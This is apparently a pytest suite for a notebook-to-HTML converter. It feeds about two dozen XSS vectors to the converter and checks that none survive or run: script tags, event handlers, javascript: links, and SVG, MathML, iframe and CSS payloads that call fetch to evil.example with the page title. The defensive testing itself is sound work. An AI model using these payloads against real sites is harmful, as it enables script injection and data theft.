"""`msnb html` of a notebook that came from elsewhere: nothing runs but msnb's own views, by msnb's own code."""

import base64
import gzip
import html
import re
import sys

import bs4
import nbformat
import numpy as np
import pytest
from browsing import Window, chromium
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from msnb import Tensor, nn
from msnb import __main__ as command
from msnb.notebook import notebook_page
from msnb.notebook.display import page
from msnb.notebook.graph import view
from msnb.notebook.graph.view import MODULE

pytestmark = pytest.mark.first
browser = pytest.fixture(chromium, scope="module")

EVIL = "fetch('http://evil.example/'+document.title);(window.top||window).evil=1"
ENCODED = base64.b64encode(gzip.compress(EVIL.encode())).decode()
VIEW = '<div class="msnb-view" style="--msnb-height:300px" data-needs="" data-page="{}">'
IMAGE = '<img src="data:image/svg+xml;base64,PHN2Zy8+" alt="a" style="max-width:100%" onload="{}"></div>'


def html_output(text):
    return new_output("display_data", data={"text/html": text, "text/plain": "plain"})


def of_output(text, **more):
    return new_code_cell("1", outputs=[html_output(text)], **more)


def page_of_a_view():
    return page.Page("Net", MODULE, {"data": b"x"}, "made.still(view,parts.data)").loose()


def of_data(mime, value, metadata=None):
    """Return a cell with one output, valid or not."""
    cell = of_output("")
    cell.outputs[0].update(data={mime: value}, metadata=metadata or {})
    return cell


def with_hostile_numbers():
    cell = of_output("plain")
    cell.update(execution_count=SCRIPT, metadata={"tags": [f'">{SCRIPT}']}, id=f'">{SCRIPT}')
    return cell


SCRIPT = f"<script>{EVIL}</script>"
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{EVIL}">{SCRIPT}<animate onbegin="{EVIL}"/>'
    f"<title>{SCRIPT}</title></svg>"
)
MATH = f'<math><mtext href="javascript:{EVIL}">x</mtext><annotation-xml>{SVG}</annotation-xml></math>'
WIDGET = f'application/vnd.jupyter.widget-view+json">{SCRIPT}'

HOSTILE = {
    "script in an output": lambda: of_output(SCRIPT),
    "onerror": lambda: of_output(f'<img src=x onerror="{EVIL}">'),
    "link to JavaScript": lambda: of_output(f'<a id="go" href="java\tscript:{EVIL}">go</a>'),
    "link to data": lambda: of_output(f'<a id="go" href="data:text/html,{SCRIPT}">go</a>'),
    "svg in an output": lambda: of_output(SVG),
    "svg as an output": lambda: of_data("image/svg+xml", SVG),
    "formula of MathML": lambda: of_output(
        f'<math><mtext href="javascript:{EVIL}">x</mtext><annotation-xml>{SVG}</math>'
    ),
    "HTML in Markdown": lambda: new_markdown_cell(f'text <img src=x onerror="{EVIL}"> {SCRIPT}'),
    "Markdown as an output": lambda: of_data("text/markdown", f"text {SCRIPT}"),
    "link in Markdown": lambda: new_markdown_cell(f"[go](javascript:{EVIL})"),
    "formula in Markdown": lambda: new_markdown_cell(rf"$\text{{{SCRIPT}}}$ and $\href{{javascript:{EVIL}}}{{x}}$"),
    "frames": lambda: of_output(f'<iframe srcdoc="{SCRIPT}"></iframe><object data="data:text/html,{EVIL}"></object>'),
    "JavaScript as an output": lambda: of_data("application/javascript", EVIL),
    "raw cell": lambda: new_raw_cell(SCRIPT, metadata={"raw_mimetype": "text/html"}),
    "width of a picture": lambda: of_data("image/png", "AAAA", {"image/png": {"width": f"1 onerror={EVIL}"}}),
    "bytes of a picture": lambda: of_data("image/png", f'x" onerror="{EVIL}'),
    "numbers, tags and name of a cell": with_hostile_numbers,
    "widget": lambda: of_data(WIDGET, {"a": 1}),
    "view with another page": lambda: of_output(VIEW.format(html.escape(SCRIPT)) + IMAGE.format("")),
    "view with another script that wakes it": lambda: of_output(VIEW.format("") + IMAGE.format(EVIL)),
    "view with another draw": lambda: of_output(
        VIEW.format(html.escape(page_of_a_view().replace("made.still(view,parts.data)", EVIL))) + IMAGE.format("")
    ),
    "view with another part": lambda: of_output(
        VIEW.format(html.escape(re.sub("@msnb:[\\w-]+", f"</script>{SCRIPT}", page_of_a_view()))) + IMAGE.format("")
    ),
    "view with a part that is code": lambda: of_output(
        VIEW.format(html.escape(re.sub("@msnb:[\\w-]+", ENCODED, page_of_a_view()))) + IMAGE.format("")
    ),
    "view with HTML behind it": lambda: of_output(VIEW.format("") + IMAGE.format("") + SCRIPT),
    "styles": lambda: of_output("<style>@import 'http://evil.example/a';*{background:url(//evil.example/b)}</style>"),
}


def book_of(*cells):
    """Return a notebook, valid or not."""
    notebook = new_notebook()
    notebook.cells = list(cells)
    return notebook


def hostile_notebook():
    cells = [new_markdown_cell("# A title"), *(make() for make in HOSTILE.values())]
    language = {"name": SCRIPT, "pygments_lexer": SCRIPT}
    notebook = book_of(*cells)
    notebook.metadata.update(title=f"</title>{SCRIPT}", language_info=language)
    return notebook


@pytest.fixture(scope="module")
def network():
    net = nn.SequentialCell(nn.Dense(3, 4), nn.ReLU(), nn.Dense(4, 2))
    return net, Tensor(np.ones((2, 3), np.float32))


def shown(browser, text, folder, ready="body"):
    """Return (Window, page) of an HTML text, each frame of which has been on screen."""
    path = folder / "page.html"
    path.write_text(text, encoding="utf-8")
    window = Window(browser)
    return window, window.show(path, ready, 1000, 800, False)


@pytest.mark.parametrize("what", HOSTILE)
def test_nothing_hostile_is_in_the_page(what):
    soup = bs4.BeautifulSoup(notebook_page.to_html(book_of(HOSTILE[what]())), "html.parser")
    assert not [tag for tag in soup.find_all(["script", "style"]) if "evil" in tag.text]
    assert not [tag for tag in soup.find_all(True) if any("evil" in str(value) for value in tag.attrs.values())]
    assert not soup.find_all(["iframe", "object", "embed"])


@pytest.mark.parametrize("policy", [True, False], ids=["as it is", "without its policy"])
def test_nothing_of_a_hostile_notebook_runs(browser, tmp_path, policy):
    text = notebook_page.to_html(hostile_notebook())
    if not policy:
        text = re.sub("<meta http-equiv=.Content-Security-Policy.[^>]*>", "", text)
        assert "Content-Security-Policy" not in text
    window, shown_page = shown(browser, text, tmp_path)
    for link in shown_page.query_selector_all("a#go, .jp-RenderedMarkdown a:not(.anchor-link)"):
        link.click(no_wait_after=True)
    for part in shown_page.query_selector_all(".msnb-view"):
        part.scroll_into_view_if_needed()
    shown_page.wait_for_load_state("networkidle")
    assert shown_page.evaluate("window.evil") is None
    assert not [address for address in window.asked if "evil" in address]
    assert shown_page.title() == "Notebook"


def test_what_is_left_of_ordinary_outputs():
    table = '<table border="1" class="dataframe"><tr><th>a</th><td style="color: blue">1</td></tr></table>'
    picture = '<img src="data:image/png;base64,AAAA" width="20">'
    drawing = '<svg viewBox="0 0 4 4"><path d="M0 0h4" fill="red"/></svg>'
    markdown = "a **bold** [link](https://example.org) `x < y & z`\n\n> quoted\n\n```python\nif a < b: pass\n```"
    code = new_code_cell("a < b", outputs=[new_output("stream", text="1 < 2 & 3")])
    cells = [
        of_output(f"<style scoped>td{{color:red}}</style>{table}{picture}{drawing}"),
        new_markdown_cell(markdown),
        code,
    ]
    text = notebook_page.to_html(book_of(*cells))
    for piece in (
        '<td style="color: blue;">1</td>',
        'src="data:image/png;base64,AAAA"',
        '<path d="M0 0h4" fill="red">',
        "<strong>bold</strong>",
        'href="https://example.org"',
        "<code>x &lt; y &amp; z</code>",
        "1 &lt; 2 &amp; 3",
        "<blockquote>",
    ):
        assert piece in text, piece
    assert "td{color:red}" not in text


def test_a_view_of_msnb_lives_in_the_page(browser, tmp_path, network):
    net, x = network
    data, _ = view(net, x)._repr_mimebundle_()
    text = notebook_page.to_html(book_of(of_output(data["text/html"])))
    window, shown_page = shown(browser, text, tmp_path, ".msnb-view.live")
    frame = shown_page.frames[1]
    frame.wait_for_selector('[aria-label^="MatMul"]', state="attached")
    assert not window.complaints()


def test_formulas_are_set_without_a_script(browser, tmp_path):
    pytest.importorskip("latex2mathml")
    cells = [
        new_markdown_cell("The product $x (A B) = (x A) B$ and\n\n$$\\frac{1}{2 \\sqrt a}$$\n\nand `$5`."),
        new_code_cell(
            "1",
            outputs=[new_output("display_data", data={"text/latex": "$\\displaystyle x^{2}$", "text/plain": "x**2"})],
        ),
        new_markdown_cell("$\\frac{$ stays"),
    ]
    text = notebook_page.to_html(book_of(*cells))
    window, shown_page = shown(browser, text, tmp_path, "math")
    assert shown_page.locator("math").count() == 3
    assert shown_page.locator("math[display=block] mfrac msqrt").count() == 1
    assert "\\frac{" in shown_page.inner_text("body") and "\\sqrt" not in shown_page.inner_text("body")
    assert shown_page.evaluate("document.querySelector('mfrac').getBoundingClientRect().height") > 20
    assert not window.complaints()


def test_formulas_stay_as_they_were_typed_where_the_library_is_missing(monkeypatch):
    monkeypatch.setitem(sys.modules, "latex2mathml.converter", None)
    text = notebook_page.to_html(new_notebook(cells=[new_markdown_cell("$x^2$")]))
    assert "$x^2$" in text and "<math" not in text


def test_trust_keeps_everything_and_a_run_says_what_was_left_out(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("JUPYTER_DATA_DIR", str(tmp_path / "data"))
    path = tmp_path / "book.ipynb"
    nbformat.write(new_notebook(cells=[of_output("<script>one=1</script>")]), path)
    assert command.main(["html", str(path)]) == 0
    assert "its scripts were left out; --trust keeps them." in capsys.readouterr().out
    assert "one=1" not in path.with_suffix(".html").read_text()
    assert command.main(["html", str(path), "--trust"]) == 0
    assert "left out" not in capsys.readouterr().out
    assert "<script>one=1</script>" in path.with_suffix(".html").read_text()


def test_a_notebook_that_this_user_has_run_is_trusted(tmp_path, monkeypatch):
    from nbformat.sign import NotebookNotary

    monkeypatch.setenv("JUPYTER_DATA_DIR", str(tmp_path / "data"))
    notebook = new_notebook(cells=[of_output("<script>one=1</script>")])
    assert not notebook_page.is_signed(notebook)
    NotebookNotary().sign(notebook)
    assert notebook_page.is_signed(notebook)
